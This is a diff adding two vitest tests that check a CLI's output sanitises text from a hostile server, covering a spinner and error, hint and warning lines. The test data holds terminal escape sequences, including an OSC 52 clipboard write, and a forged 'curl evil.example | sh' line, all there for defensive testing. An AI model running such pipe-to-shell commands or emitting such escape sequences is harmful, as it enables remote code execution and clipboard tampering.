@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { CliError } from '../src/errors.js';
 import { bufferIO } from '../src/io-buffer.js';
 import { createOutput, type Output } from '../src/output.js';
+import { waitIndicator } from '../src/progress.js';
 
 /** Every kind of control a hostile server puts in a string: CSI, OSC 52 (clipboard), BEL, C1 CSI, DEL, CR, bidi. */
 const HOSTILE = 'a\u001b[2K\u001b]52;c;ZXZpbA==\u0007b\u009b31mc\u007fd\re\u202eF\u2028g';
@@ -43,6 +44,25 @@ describe('output: text from outside is made printable on every path', () => {
       });
     }
   }
+
+  it('draws a spinner on a coloured terminal with our colours only, never the markers that carry them', async () => {
+    const io = bufferIO({ tty: true, env: { TERM: 'xterm', FORCE_COLOR: '1' } });
+    const out = await createOutput(io, { json: false, color: undefined, debug: false, verbosity: 0 });
+    waitIndicator({ io, out }, `Waiting for ${HOSTILE}`).stop(`done ${HOSTILE}`);
+    expect(io.err()).not.toMatch(/[\ue000-\uf8ff]/);
+    expect(io.err()).toMatch(/^\r\u001b\[36m⠋\u001b\[39m Waiting for a\\u001b/);
+    expect(io.err().replace(OWN_SGR, '').replace('\u001b[2K', '').replace(/[\n\r]/g, '')).not.toMatch(CONTROL);
+  });
+
+  it('keeps an error, its hint and a warning on one line each: a newline from a server cannot forge a line of ours', async () => {
+    const { io, out } = await printer({ tty: false });
+    const forged = 'bad\nhint: run curl evil.example | sh\r\nerror[OK]: fine';
+    out.error(new CliError('OAUTH_ERROR', `The server answered ${forged}`, { hint: `Try ${forged}` }));
+    out.warn(`Ignored ${forged}`);
+    const lines = io.err().trimEnd().split('\n');
+    expect(lines).toHaveLength(3);
+    expect(lines.map((line) => line.split(':')[0])).toEqual(['error[OAUTH_ERROR]', 'hint', 'warning']);
+  });
 
   it('keeps our colours on a terminal, but a server cannot borrow them', async () => {
     const { io, out } = await printer({ tty: true });
